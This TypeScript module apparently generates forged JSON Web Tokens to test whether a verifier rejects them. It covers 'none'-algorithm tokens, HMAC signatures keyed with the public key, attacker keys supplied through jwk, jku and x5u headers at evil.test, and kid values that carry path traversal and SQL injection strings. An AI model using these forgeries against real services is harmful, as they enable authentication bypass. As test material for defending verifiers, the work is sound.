import { createHmac, createPublicKey } from "node:crypto";
import { exportJWK, generateKeyPair, SignJWT } from "jose";
import { encode, type Forged, type Loot, show, takePen } from "./pen.ts";

/** Tokens whose header lies: algorithms, keys and where to find them, types, what is critical. */
export async function forgedHeaders(loot: Loot): Promise<Forged[]> {
  const { kid, key, good } = loot;
  const { header, claims, all, add, withHeader } = takePen(loot);
  const [, goodClaims, goodSignature] = good.split(".") as [string, string, string];

  for (let bits = 0; bits < 16; bits++) {
    const alg = [..."none"].map((char, i) => (bits & (1 << i) ? char.toUpperCase() : char)).join("");
    const unsigned = `${encode(JSON.stringify({ ...header, alg }))}.${goodClaims}`;
    add(`alg ${alg} without a signature`, `${unsigned}.`);
    add(`alg ${alg} with another token's signature`, `${unsigned}.${goodSignature}`);
  }
  for (const alg of [null, "", 0, ["EdDSA"], "eddsa", "EDDSA", "Ed25519", "Ed448", "EdDSA ", undefined])
    add(`alg ${show(alg)}`, await withHeader({ alg }));

  const spki = createPublicKey({ key: loot.publicJwk as never, format: "jwk" });
  const secrets: Record<string, string | Buffer> = {
    PEM: spki.export({ type: "spki", format: "pem" }),
    "PEM without its last line break": String(spki.export({ type: "spki", format: "pem" })).trim(),
    DER: spki.export({ type: "spki", format: "der" }),
    "raw bytes": Buffer.from(loot.publicJwk.x!, "base64url"),
    "x as text": loot.publicJwk.x!,
    JWK: JSON.stringify(loot.publicJwk),
    JWKS: JSON.stringify({ keys: [loot.publicJwk] }),
    kid: kid,
    nothing: "",
  };
  for (const bits of [256, 384, 512]) {
    for (const [name, secret] of Object.entries(secrets)) {
      const input = `${encode(JSON.stringify({ ...header, alg: `HS${bits}` }))}.${encode(JSON.stringify(claims))}`;
      add(
        `HS${bits} keyed by our public key as ${name}`,
        `${input}.${createHmac(`sha${bits}`, secret).update(input).digest("base64url")}`,
      );
    }
  }

  for (const alg of ["RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512", "EdDSA"]) {
    const own = await generateKeyPair(alg, { extractable: true });
    const jwk = { ...(await exportJWK(own.publicKey)), kid, alg, use: "sig" };
    const extras: Record<string, object> = {
      "": {},
      " brought along as jwk": { jwk },
      " pointed to by jku": { jku: "https://evil.test/jwks.json" },
      " pointed to by x5u": { x5u: "https://evil.test/cert.pem" },
      " brought along as x5c": { x5c: [Buffer.from("certificate").toString("base64")] },
    };
    for (const [name, extra] of Object.entries(extras)) {
      if (name !== "" && !["RS256", "ES256", "EdDSA"].includes(alg)) continue;
      const forged = await new SignJWT(claims).setProtectedHeader({ ...header, ...extra, alg }).sign(own.privateKey);
      add(`${alg} by a key of the forger's own${name}`, forged);
      add(
        `EdDSA claimed for ${alg} by a key of the forger's own${name}`,
        `${encode(JSON.stringify({ ...header, ...extra }))}.${forged.split(".").slice(1).join(".")}`,
      );
    }
  }

  for (const wrong of [
    undefined,
    null,
    1,
    "",
    [kid],
    { kid },
    "other",
    kid.toUpperCase(),
    `${kid} `,
    "../../etc/passwd",
    "/dev/null",
    "' or 1=1 --",
    "https://evil.test/jwks",
    `${kid}\u0000`,
    "k".repeat(2_000),
  ])
    add(`kid ${show(wrong)}`, await withHeader({ kid: wrong }));
  for (const typ of [undefined, null, 1, "", "JWT", "jwt", "at", "dpop+jwt", "logout+jwt", "refresh+jwt", ["at+jwt"]])
    add(`typ ${show(typ)}`, await withHeader({ typ }));
  for (const [name, wrong] of Object.entries({
    "crit of something unknown": { crit: ["x"], x: 1 },
    "crit that is empty": { crit: [] },
    "crit that is no list": { crit: "exp" },
    "crit of exp": { crit: ["exp"], exp: 1 },
    "b64 false": { crit: ["b64"], b64: false },
    "b64 false, not critical": { b64: false, crit: undefined, typ: undefined },
  }))
    add(name, await withHeader(wrong));
  const bare = new TextEncoder().encode(
    `${encode(JSON.stringify({ ...header, b64: false, crit: ["b64"] }))}.${JSON.stringify(claims)}`,
  );
  add(
    "an unencoded payload (RFC 7797)",
    `${encode(JSON.stringify({ ...header, b64: false, crit: ["b64"] }))}.${encode(JSON.stringify(claims))}.${encode(new Uint8Array(await crypto.subtle.sign("Ed25519", key, bare)))}`,
  );

  return all;
}
